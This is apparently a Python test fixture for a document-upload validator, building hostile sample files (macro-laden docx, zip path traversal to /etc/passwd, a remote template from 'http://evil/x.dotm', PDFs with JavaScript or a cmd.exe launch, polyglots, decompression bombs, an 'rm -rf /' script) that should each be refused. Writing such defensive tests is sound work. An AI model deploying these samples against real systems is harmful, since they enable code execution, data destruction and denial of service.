"""Files nobody should open: each is refused with its sentence."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

CONTENT_TYPES = '<?xml version="1.0"?><Types><Override PartName="/word/document.xml"/></Types>'
DOCUMENT = "<w:document><w:t>Xe đẩy thuốc</w:t></w:document>"


def archive(parts: dict[str, str | bytes], *, comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
        made.comment = comment
    return out.getvalue()


def docx(**more: str | bytes) -> bytes:
    parts = {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": DOCUMENT}
    return archive(parts | {name.replace("__", "/"): content for name, content in more.items()})


def docx_with(name: str, content: str | bytes = "x") -> bytes:
    return archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": DOCUMENT, name: content})


def pdf(body: bytes = b"", *, after: bytes = b"") -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n" + after


def packed_stream(content: bytes, names: bytes = b"/Filter/FlateDecode") -> bytes:
    return b"2 0 obj<<" + names + b">>stream\n" + zlib.compress(content, 9) + b"\nendstream\nendobj\n"


def bomb_pdf() -> bytes:
    twice = zlib.compress(zlib.compress(bytes(250 * 2**20), 9), 9)
    return pdf(b"2 0 obj<</Filter[/FlateDecode/FlateDecode]>>stream\n" + twice + b"\nendstream\nendobj\n")


def wide_png() -> bytes:
    """A picture of 60,000 by 60,000 points in a few bytes."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack("!I", len(content)) + kind + content + struct.pack("!I", zlib.crc32(kind + content))

    head = struct.pack("!IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


EXTERNAL = '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
LINK = '<Relationships><Relationship Type="http://x/relationships/hyperlink" Target="http://thidua.vn" TargetMode="External"/></Relationships>'
CASES = {
    "html named as a photo": (b"<html><script>alert(1)</script>", "không thuộc loại được nhận"),
    "svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x"/>', "không thuộc loại được nhận"),
    "svg after a comment": (b"<!-- x --><svg/>", "không thuộc loại được nhận"),
    "script": (b"#!/bin/sh\nrm -rf /", "không thuộc loại được nhận"),
    "program": (b"MZ\x90\x00" + bytes(200), "không thuộc loại được nhận"),
    "plain archive": (archive({"a.txt": "x"}), "không thuộc loại được nhận"),
    "html before a pdf": (b"<html><!--" + pdf(), "không thuộc loại được nhận"),
    "office bomb": (docx_with("word/media/x.bin", bytes(30 * 2**20)), "phình ra quá lớn"),
    "macro": (docx_with("word/vbaProject.bin"), "macro"),
    "macro by type": (
        archive(
            {
                "[Content_Types].xml": '<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
                "word/document.xml": DOCUMENT,
            }
        ),
        "macro",
    ),
    "embedded program": (docx_with("word/embeddings/oleObject1.bin"), "macro"),
    "activex": (docx_with("word/activeX/activeX1.xml"), "macro"),
    "path out of the file": (docx_with("../../etc/passwd"), "đường dẫn ra ngoài"),
    "absolute path": (docx_with("/etc/passwd"), "đường dẫn ra ngoài"),
    "entities": (docx_with("word/x.xml", '<!DOCTYPE a [<!ENTITY b "x">]><a/>'), "XML không an toàn"),
    "remote template": (docx_with("word/_rels/settings.xml.rels", EXTERNAL), "tự tải nội dung"),
    "something before the archive's comment": (
        archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": DOCUMENT}, comment=b"<script>"),
        "gắn kèm",
    ),
    "pdf with a script": (pdf(b"3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"), "lệnh chạy"),
    "pdf with a script in disguise": (pdf(b"3 0 obj<</S/J#61va#53cript>>endobj"), "lệnh chạy"),
    "pdf with a script in a packed object": (
        pdf(packed_stream(b"5 0 <</S/JavaScript>>", b"/Type/ObjStm/Filter/FlateDecode")),
        "lệnh chạy",
    ),
    "pdf that starts a program": (pdf(b"3 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "lệnh chạy"),
    "pdf with a file inside": (pdf(b"3 0 obj<</Names<</EmbeddedFiles 4 0 R>>>>endobj"), "lệnh chạy"),
    "locked pdf": (pdf(b"trailer<</Encrypt 9 0 R>>"), "mật khẩu"),
    "pdf and archive in one": (pdf(after=archive({"a": "x"})), "gắn sau tệp PDF"),
    "pdf and page in one": (pdf(after=b"<html>"), "gắn sau tệp PDF"),
    "pdf bomb": (bomb_pdf(), "phình ra quá lớn"),
    "picture bomb": (wide_png(), "quá lớn"),
    "broken picture": (b"\xff\xd8\xff\xe0" + bytes(50), "bị hỏng"),
    "empty": (b"", "rỗng"),
}
